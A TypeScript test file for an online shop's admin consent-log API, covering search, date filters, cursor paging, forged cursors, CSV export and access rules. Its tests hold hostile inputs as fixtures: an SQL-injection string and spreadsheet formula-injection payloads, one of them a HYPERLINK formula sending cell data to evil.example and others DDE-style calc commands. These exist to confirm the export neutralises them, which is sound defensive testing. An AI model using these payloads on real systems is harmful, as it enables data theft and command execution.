import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { pagingMessages } from '@shop/shared/api/paging';
import {
  CONSENT_LOG_PAGE_SIZE,
  consentLogPageSchema,
  type ConsentLogEntry,
} from '@shop/shared/legal/legal-api';
import { documentAdminMessages } from '@shop/shared/legal/messages';
import { consentLog, legalDocuments } from '../../db/schema.ts';
import { bearer } from '../../test/sign-in.ts';
import { useMailCatcher, useTestApp } from '../../test/suite.ts';
import { signInAdmin, signInCustomer, type SignedIn } from './admin-test-kit.ts';

/**
 * The admin's consent log (docs/product/personal-data.md#consents): rows written straight into the table
 * (the consents service writes them in the shop), found by e-mail part, order number, account id, session
 * id or address, filtered by document, purpose and Moscow days, paged newest first, and exported whole as
 * CSV that no spreadsheet runs as formulas.
 */

const mail = useMailCatcher();
const t = useTestApp(() => ({ env: { SMTP_URL: mail.url } }));

/** This file's rows are marked by their browser, so rows of the file's own sign-ins stay out. */
const UA = 'consent-log-test';
let admin: SignedIn;
let shopper: SignedIn;
let ids: Record<'privacy' | 'consent' | 'offer', number>;

const get = (url: string, who: SignedIn | null = admin) =>
  t.app.inject({ method: 'GET', url, headers: who ? bearer(who.token) : {} });

async function search(query: Record<string, string | number>): Promise<ConsentLogPage> {
  const res = await get(`/api/admin/consents?${new URLSearchParams(stringValues(query))}`);
  expect(res.statusCode, res.body).toBe(200);
  return consentLogPageSchema.parse(res.json());
}

type ConsentLogPage = z.infer<typeof consentLogPageSchema>;

const stringValues = (query: Record<string, string | number>) =>
  Object.fromEntries(Object.entries(query).map(([k, v]) => [k, String(v)]));

/** Only this file's inserted rows (sign-ins of the file's accounts log consents too). */
const mine = (items: ConsentLogEntry[]) => items.filter((i) => i.user_agent?.startsWith(UA));

beforeAll(async () => {
  admin = await signInAdmin(t, mail);
  shopper = await signInCustomer(t, mail, 'shopper.log');
  const rows = await t.database.db.select().from(legalDocuments).where(eq(legalDocuments.version, 1));
  ids = Object.fromEntries(rows.map((r) => [r.kind, r.id])) as typeof ids;
  await t.database.db.insert(consentLog).values([
    // Moscow 25 November 23:59:59.999 and 26 November 00:00 (UTC+3).
    {
      at: new Date('2026-11-25T20:59:59.999Z'),
      userId: shopper.id,
      email: shopper.email,
      documentId: ids.consent,
      purpose: 'sign_in',
      ip: '203.0.113.7',
      userAgent: `${UA} A`,
    },
    {
      at: new Date('2026-11-25T21:00:00Z'),
      email: 'Guest.Person@Example.ru',
      sessionId: 'sess-0001-guest',
      documentId: ids.offer,
      purpose: 'checkout',
      orderNumber: 1042,
      ip: '2001:db8::5',
      userAgent: `${UA} B`,
    },
    {
      at: new Date('2026-11-27T09:00:00Z'),
      email: 'guest.person@example.ru',
      sessionId: 'sess-0001-guest',
      documentId: ids.consent,
      purpose: 'checkout',
      orderNumber: 1042,
      ip: '2001:db8::5',
      userAgent: `${UA} C`,
    },
    {
      at: new Date('2026-11-28T09:00:00Z'),
      userId: shopper.id,
      documentId: ids.consent,
      purpose: 'withdrawal',
      userAgent: `${UA} D`,
      erasedAt: new Date('2026-11-29T09:00:00Z'),
    },
  ]);
});

describe('GET /api/admin/consents', () => {
  it('lists rows newest first, each with its document version and hash', async () => {
    const page = await search({ q: 'guest.person' });
    expect(page).toMatchObject({
      total: 2,
      total_capped: false,
      next_cursor: null,
      page_size: CONSENT_LOG_PAGE_SIZE,
    });
    const [hashes] = [await t.database.db.select().from(legalDocuments).where(eq(legalDocuments.version, 1))];
    expect(page.items).toEqual([
      {
        id: expect.any(Number),
        at: '2026-11-27T09:00:00.000Z',
        account_id: null,
        email: 'guest.person@example.ru',
        session_id: 'sess-0001-guest',
        kind: 'consent',
        version: 1,
        hash: hashes.find((h) => h.kind === 'consent')!.hash,
        purpose: 'checkout',
        order_number: 1042,
        ip: '2001:db8::5',
        user_agent: `${UA} C`,
        erased: false,
      },
      expect.objectContaining({
        at: '2026-11-25T21:00:00.000Z',
        kind: 'offer',
        email: 'Guest.Person@Example.ru',
      }),
    ]);
  });

  it.each([
    ['an e-mail part, whatever its case', 'PERSON@exam', ['C', 'B']],
    ['an order number', '1042', ['C', 'B']],
    ['an order number with №', '№ 1042', ['C', 'B']],
    ['a session id', 'sess-0001-guest', ['C', 'B']],
    ['an address', '203.0.113.7', ['A']],
    ['an IPv6 address', '2001:db8::5', ['C', 'B']],
  ])('finds by %s', async (_what, q, expected) => {
    const page = await search({ q });
    expect(mine(page.items).map((i) => i.user_agent!.slice(UA.length + 1))).toEqual(expected);
  });

  it('finds by account id: the rows the account gave', async () => {
    const page = await search({ q: String(shopper.id) });
    expect(mine(page.items).map((i) => i.user_agent)).toEqual([`${UA} D`, `${UA} A`]);
    expect(
      page.items.every(
        (i) =>
          i.account_id === shopper.id ||
          i.order_number === shopper.id ||
          i.email?.includes(String(shopper.id)),
      ),
    ).toBe(true);
    expect(page.items.find((i) => i.user_agent === `${UA} D`)).toMatchObject({
      erased: true,
      purpose: 'withdrawal',
    });
  });

  it('takes a search text literally: % and _ match only themselves, a part of a session id nothing', async () => {
    expect((await search({ q: '%' })).total).toBe(0);
    expect((await search({ q: '_' })).total).toBe(0);
    expect((await search({ q: 'sess-0001' })).total).toBe(0);
    expect((await search({ q: "'; drop table consent_log; --" })).total).toBe(0);
    expect((await search({ q: '   ' })).total).toBeGreaterThanOrEqual(4);
  });

  it('filters by document, purpose and Moscow days, inclusive', async () => {
    const letters = async (query: Record<string, string>) =>
      mine((await search(query)).items).map((i) => i.user_agent!.slice(UA.length + 1));
    expect(await letters({ kind: 'offer' })).toEqual(['B']);
    expect(await letters({ purpose: 'checkout' })).toEqual(['C', 'B']);
    expect(await letters({ kind: 'consent', purpose: 'checkout' })).toEqual(['C']);
    expect(await letters({ from: '2026-11-26' })).toEqual(['D', 'C', 'B']);
    expect(await letters({ to: '2026-11-25' })).toEqual(['A']);
    expect(await letters({ from: '2026-11-26', to: '2026-11-27' })).toEqual(['C', 'B']);
    expect(await letters({ from: '2026-11-27', to: '2026-11-27' })).toEqual(['C']);
    expect(await letters({ from: '2026-11-28', to: '2026-11-26' })).toEqual([]);
  });

  it('refuses a day that does not exist (400) and what is no day, document or purpose (422)', async () => {
    for (const query of ['from=2026-02-30', 'to=2026-13-01']) {
      const res = await get(`/api/admin/consents?${query}`);
      expect(res.statusCode, query).toBe(400);
      expect(res.json()).toEqual({ detail: documentAdminMessages.invalidDay });
      const csv = await get(`/api/admin/consents/export.csv?${query}`);
      expect(csv.statusCode, query).toBe(400);
      expect(csv.json()).toEqual({ detail: documentAdminMessages.invalidDay });
    }
    for (const query of [
      'from=26.11.2026',
      'kind=terms',
      'purpose=spam',
      `cursor=${'x'.repeat(101)}`,
      'cursor=a%2Bb',
      `q=${'x'.repeat(201)}`,
    ]) {
      expect((await get(`/api/admin/consents?${query}`)).statusCode, query).toBe(422);
    }
  });
});

describe('paging', () => {
  it('answers 50 rows a page, newest first, the same rows once each, joined by cursors', async () => {
    const base = new Date('2025-01-10T12:00:00Z').getTime();
    await t.database.db.insert(consentLog).values(
      Array.from({ length: 120 }, (_, i) => ({
        at: new Date(base + Math.floor(i / 3) * 60_000),
        email: `paging.${i}@example.ru`,
        documentId: ids.privacy,
        purpose: 'sign_in',
        userAgent: `${UA} paging ${i}`,
      })),
    );
    const query = { q: 'paging.', to: '2025-01-10' };
    const pages: ConsentLogPage[] = [await search(query)];
    while (pages.at(-1)!.next_cursor !== null) {
      // A row logged between two reads is newer than every cursor: it never shifts a later page.
      if (pages.length === 1)
        await t.database.db.insert(consentLog).values({
          at: new Date(base + 40 * 60_000),
          email: 'paging.late@example.ru',
          documentId: ids.privacy,
          purpose: 'sign_in',
          userAgent: `${UA} paging late`,
        });
      pages.push(await search({ ...query, cursor: pages.at(-1)!.next_cursor! }));
    }
    expect(pages.map((p) => p.items.length)).toEqual([50, 50, 20]);
    expect(pages.map((p) => [p.total, p.total_capped])).toEqual([
      [120, false],
      [null, false],
      [null, false],
    ]);
    expect(pages.every((p) => p.page_size === CONSENT_LOG_PAGE_SIZE)).toBe(true);
    const all = pages.flatMap((p) => p.items);
    expect(new Set(all.map((i) => i.id)).size).toBe(120);
    expect(all.some((i) => i.email === 'paging.late@example.ru')).toBe(false);
    const moments = all.map((i) => Date.parse(i.at));
    expect(moments).toEqual([...moments].sort((a, b) => b - a));
    expect(all[0]!.email).toMatch(/^paging\.11[789]@/);
    // Read again from the start, the late row leads.
    expect((await search(query)).items[0]!.email).toBe('paging.late@example.ru');
  });

  it('refuses a cursor it did not make, or one of another list (422), and never fails on one', async () => {
    const orders = (await get('/api/admin/orders?limit=1')).json() as { next_cursor: string | null };
    const forged = [
      'bm90LWEtY3Vyc29y', // 'not-a-cursor'
      Buffer.from('c.1.0').toString('base64url'),
      Buffer.from('c.99999999999999999.1').toString('base64url'),
      Buffer.from('c.1733000000000000.2147483648').toString('base64url'),
      Buffer.from('c.1733000000000000.1').toString('base64url') + 'A',
      ...(orders.next_cursor ? [orders.next_cursor] : []),
    ];
    for (const cursor of forged) {
      const res = await get(`/api/admin/consents?cursor=${cursor}`);
      expect([res.statusCode, res.json()], cursor).toEqual([422, { detail: pagingMessages.badCursor }]);
    }
  });
});

describe('GET /api/admin/consents/export.csv', () => {
  /** The CSV's records (header first) after its BOM. */
  function records(body: string): string[][] {
    expect(body.startsWith('\uFEFF')).toBe(true);
    return parse(body.slice(1), { relax_column_count: false }) as string[][];
  }

  it('is a UTF-8 attachment with a BOM, a header and every matching row, newest first', async () => {
    const res = await get('/api/admin/consents/export.csv?q=guest.person');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="consents-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers['cache-control']).toBe('no-store');
    const [header, ...rows] = records(res.body);
    expect(header).toEqual([
      'Дата и время (МСК)',
      'Аккаунт',
      'E-mail',
      'Сессия',
      'Документ',
      'Редакция',
      'Хеш (SHA-256)',
      'Цель',
      'Заказ',
      'IP',
      'Браузер',
      'Данные удалены',
    ]);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toEqual([
      '2026-11-27 12:00:00',
      '',
      'guest.person@example.ru',
      'sess-0001-guest',
      'Согласие на обработку персональных данных',
      '1',
      expect.stringMatching(/^[0-9a-f]{64}$/),
      'Заказ',
      '1042',
      '2001:db8::5',
      `${UA} C`,
      '',
    ]);
    expect(rows[1]!.slice(0, 6)).toEqual([
      '2026-11-26 00:00:00',
      '',
      'Guest.Person@Example.ru',
      'sess-0001-guest',
      'Публичная оферта',
      '1',
    ]);
  });

  it('takes the same filters as the list', async () => {
    const csv = records(
      (await get(`/api/admin/consents/export.csv?q=${shopper.id}&purpose=withdrawal`)).body,
    );
    expect(csv.slice(1).map((r) => r[10])).toEqual([`${UA} D`]);
    expect(csv[1]![11]).toBe('да');
    const none = records((await get('/api/admin/consents/export.csv?from=2030-01-01')).body);
    expect(none).toHaveLength(1);
  });

  it('holds every matching row — more than a page and more than one read — each once', async () => {
    // 1 005 rows in one microsecond-close moment: the reads go on by (moment, id), never skipping a tie.
    await t.database.db.execute(sql`
      insert into consent_log (at, email, document_id, purpose, user_agent)
      select timestamptz '2024-06-01 10:00:00.000123+00' + (g % 2) * interval '1 microsecond',
             'bulk.' || g || '@example.ru', ${ids.consent}, 'sign_in', ${UA} || ' bulk'
      from generate_series(1, 1005) g`);
    const res = await get('/api/admin/consents/export.csv?q=bulk.&to=2024-06-01');
    const rows = records(res.body).slice(1);
    expect(rows).toHaveLength(1005);
    expect(new Set(rows.map((r) => r[2])).size).toBe(1005);
    expect((await search({ q: 'bulk.', to: '2024-06-01' })).total).toBe(1005);
    // The list's pages go on by the same key, to the microsecond: every row once.
    const seen: number[] = [];
    let cursor: string | null = null;
    do {
      const page: ConsentLogPage = await search({
        q: 'bulk.',
        to: '2024-06-01',
        ...(cursor ? { cursor } : {}),
      });
      seen.push(...page.items.map((item) => item.id));
      cursor = page.next_cursor;
    } while (cursor !== null);
    expect([seen.length, new Set(seen).size]).toEqual([1005, 1005]);
  });

  it('makes no cell a formula: = + - @ tab and CR get a leading apostrophe; quotes, commas and lines survive', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
      '+cmd|" /C calc"!A0',
      '-2+3',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '\t=1+1',
      '\r=1+1',
      'Mozilla/5.0, "quoted"\nnext line',
    ];
    await t.database.db.insert(consentLog).values(
      hostile.map((value, i) => ({
        at: new Date(Date.UTC(2023, 0, 1, 0, i)),
        email: value,
        sessionId: value,
        documentId: ids.privacy,
        purpose: 'sign_in',
        ip: value,
        userAgent: value,
      })),
    );
    const res = await get('/api/admin/consents/export.csv?to=2023-01-01&from=2023-01-01');
    const rows = records(res.body).slice(1).reverse();
    expect(rows).toHaveLength(hostile.length);
    rows.forEach((row, i) => {
      const value = hostile[i]!;
      const expected = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
      for (const column of [2, 3, 9, 10]) expect(row[column], `${i}:${column}`).toBe(expected);
    });
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('is not for customers or anyone signed out', async () => {
    expect((await get('/api/admin/consents/export.csv', null)).statusCode).toBe(401);
    expect((await get('/api/admin/consents/export.csv', shopper)).statusCode).toBe(403);
    expect((await get('/api/admin/consents', shopper)).statusCode).toBe(403);
  });
});
